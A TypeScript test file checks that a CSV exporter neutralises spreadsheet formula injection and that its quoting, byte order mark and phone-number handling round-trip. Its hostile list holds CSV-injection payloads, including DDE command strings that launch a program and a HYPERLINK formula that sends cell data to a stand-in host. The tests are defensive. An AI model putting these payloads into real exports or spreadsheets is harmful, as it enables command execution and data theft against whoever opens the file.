import Papa from "papaparse";
import { describe, expect, it } from "vitest";
import { msisdnFromRow } from "#lib/domain/contacts/model";
import { parseMsisdn } from "#lib/domain/contacts/msisdn";
import { CsvReader } from "#lib/domain/imports/csv-reader";
import type { CsvRow } from "#lib/domain/imports/model";
import { csvLine, csvStart, guardCell, unguardCell } from "./csv.ts";

/** What people have sent to make a spreadsheet compute, call a program or open an address. */
const hostile = [
  "=1+1",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example?x="&A1,"tıkla")',
  "+1+1",
  "-1+1",
  "-2+3+cmd|' /C calc'!D2",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "\0=1+1",
  "  =1+1",
  "\u00a0=1+1",
  "\ufeff=1+1",
  "\u200b=1+1",
  "\u202e=1+1",
  "\u3000 \u00ad=1+1",
  "＝1+1",
  "＋1",
  "－1",
  "＠SUM(1)",
  "﹦1+1",
  "−1+1",
  "iyi\n=1+1",
  "iyi\r\n+1+1",
  "iyi\r-1",
  "iyi\n\n  @x",
  "iyi\u2028=1+1",
  "\u2028=1+1",
  "'=1+1",
  "''=1+1",
  "' =1+1",
  "'\n=1",
  "-",
  "=",
  "+905321234567",
];

const harmless = [
  "",
  " ",
  "Ayşe Yılmaz",
  "D'Angelo",
  "'tırnak'",
  "a=b",
  "1-2",
  "12,50",
  'söz "VIP", kapıda',
  "iki\nsatır",
  "son\n",
  "😀",
  "'",
  "x\t=",
];

/** The first visible character of every line, found without the code under test. */
function looksLikeFormula(cell: string): boolean {
  return cell
    .normalize("NFKC")
    .split(/\r\n|[\r\n\u0085\u2028\u2029]/)
    .some((line) => /^[\s\p{Cf}]*[=+\-@−]/u.test(line) || /^[\t\0]/.test(line));
}

function readLine(text: string): readonly string[] {
  const rows: CsvRow[] = [];
  const reader = new CsvReader(",");
  reader.read(text, rows);
  reader.end(rows);
  expect(rows).toHaveLength(1);
  return rows[0]?.cells ?? [];
}

describe("R-091 guardCell", () => {
  it.each(hostile)("leaves no formula in %j", (text) => {
    expect(looksLikeFormula(guardCell(text))).toBe(false);
    expect(guardCell(text)).not.toMatch(/^[\t\r\n\0]/);
  });

  it.each(harmless)("leaves %j alone", (text) => {
    expect(guardCell(text)).toBe(text);
  });

  it("guards every line of a cell once", () => {
    expect(guardCell("=1\nok\n+2\r\n@3")).toBe("'=1\nok\n'+2\r\n'@3");
    expect(guardCell("\n=1")).toBe("'\n'=1");
  });

  it("can be undone exactly, also for text that looks guarded already", () => {
    for (const text of [...hostile, ...harmless]) expect(unguardCell(guardCell(text))).toBe(text.replaceAll("\0", ""));
  });

  it("can be undone exactly on 50,000 seeded texts, and leaves no formula in any", () => {
    let state = 99;
    const next = (below: number) => {
      state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0;
      return Math.floor((state / 2 ** 32) * below);
    };
    const letters = [
      "'",
      "=",
      "+",
      "-",
      "@",
      "\t",
      "\r",
      "\n",
      "\r\n",
      " ",
      "\u00a0",
      "\ufeff",
      "\u200b",
      "＝",
      "a",
      "1",
      "\u2028",
    ];
    for (let n = 0; n < 50_000; n++) {
      const text = Array.from({ length: next(7) }, () => letters[next(letters.length)]).join("");
      const guarded = guardCell(text);
      if (unguardCell(guarded) !== text || looksLikeFormula(guarded)) {
        expect({ text, guarded, back: unguardCell(guarded) }).toEqual({ text, guarded, back: text });
        expect(looksLikeFormula(guarded), JSON.stringify(text)).toBe(false);
      }
    }
  });
});

describe("R-091 an export", () => {
  it("quotes every cell and ends lines the way spreadsheets do", () => {
    expect(csvLine(["a", 1, -2.5, 10n, true, null, 'q"q'])).toBe('"a","1","-2.5","10","true","","q""q"\r\n');
  });

  it("starts with a byte order mark and a header, which is guarded too", () => {
    expect(csvStart(["Ad", "=Şehir"])).toBe('\ufeff"Ad","\'=Şehir"\r\n');
  });

  it("comes back as it was, by our reader and by another's", () => {
    const cells = [...hostile, ...harmless].map((text) => text.replaceAll("\0", ""));
    const line = csvLine(cells);
    expect(readLine(line).map(unguardCell)).toEqual(cells);
    expect(Papa.parse<string[]>(line, { newline: "\r\n" }).data[0]?.map(unguardCell)).toEqual(cells);
  });

  it("shows another's reader no formula in any cell", () => {
    const cells = Papa.parse<string[]>(csvLine(hostile), { newline: "\r\n" }).data[0] ?? [];
    expect(cells).toHaveLength(hostile.length);
    expect(cells.filter(looksLikeFormula)).toEqual([]);
  });

  it("writes phone numbers without a plus, so that they are read back as the same number", () => {
    const number = msisdnFromRow("905321234567");
    expect(csvLine([number])).toBe('"905321234567"\r\n');
    expect(parseMsisdn(readLine(csvLine([number]))[0] ?? "")).toMatchObject({
      ok: true,
      msisdn: number,
      repair: "none",
    });
  });

  it.each([Number.NaN, Number.POSITIVE_INFINITY])("stops on %d, which no column holds", (value) => {
    expect(() => csvLine([value])).toThrow("finite");
  });
});
